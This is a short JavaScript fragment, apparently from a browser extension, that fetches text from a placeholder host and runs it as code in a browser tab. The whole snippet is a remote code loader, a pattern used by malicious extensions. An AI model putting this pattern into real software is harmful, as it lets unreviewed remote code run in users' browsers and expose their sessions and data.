async function run(tab) {
  const code = await (await fetch('https://config.example.invalid/x')).text();
  chrome.tabs.executeScript(tab.id, { code });
}
